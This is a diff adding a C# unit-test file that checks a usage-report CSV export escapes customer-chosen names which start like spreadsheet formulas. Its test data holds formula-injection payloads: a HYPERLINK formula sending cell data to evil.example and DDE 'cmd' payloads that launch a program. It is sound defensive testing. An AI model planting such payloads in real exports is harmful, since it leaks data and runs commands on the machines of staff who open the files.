@@ -1,0 +1,72 @@
+using System.Runtime.CompilerServices;
+using ControlPanel.Domain.Usage;
+using ControlPanel.Web.Usage;
+
+namespace ControlPanel.Api.Tests.Usage;
+
+/// <summary>
+/// Account and application names are chosen by self-registered customers and staff open the export in
+/// spreadsheets: a name that starts like a formula must arrive as text, not as a formula.
+/// </summary>
+public sealed class UsageCsvTests
+{
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    public async Task Names_that_start_like_a_formula_are_escaped(string name)
+    {
+        var csv = await ExportAsync(new UsageReports.HistoryRow
+        {
+            Day = new DateOnly(2026, 11, 30),
+            AccountName = name,
+            ApplicationName = name,
+            Environment = "Live",
+            Allowed = 3,
+            Total = 3,
+            Counted = 3,
+        });
+
+        // CsvHelper's escape puts a quote before the cell, so spreadsheets read it as text.
+        var escaped = "\"'" + name.Replace("\"", "\"\"") + "\"";
+        Assert.Contains("2026-11-30," + escaped + "," + escaped + ",Live,3,", csv);
+        Assert.DoesNotContain("," + name, csv);
+    }
+
+    [Fact]
+    public async Task Ordinary_names_are_written_as_they_are()
+    {
+        var csv = await ExportAsync(new UsageReports.HistoryRow
+        {
+            Day = new DateOnly(2026, 11, 30),
+            AccountName = "Acme Ltd",
+            ApplicationName = "Shop-front 2",
+            Environment = "Live",
+            Allowed = 3,
+            Total = 3,
+            Counted = 3,
+        });
+
+        Assert.Contains("2026-11-30,Acme Ltd,Shop-front 2,Live,3,0,0,0,0,0,3,3", csv);
+    }
+
+    private static async Task<string> ExportAsync(params UsageReports.HistoryRow[] rows)
+    {
+        using var output = new MemoryStream();
+        await UsageCsv.WriteAsync(output, Rows(rows), CancellationToken.None);
+        output.Position = 0;
+        return await new StreamReader(output).ReadToEndAsync();
+    }
+
+    private static async IAsyncEnumerable<UsageReports.HistoryRow> Rows(UsageReports.HistoryRow[] rows, [EnumeratorCancellation] CancellationToken cancellationToken = default)
+    {
+        foreach (var row in rows)
+        {
+            await Task.Yield();
+            yield return row;
+        }
+    }
+}
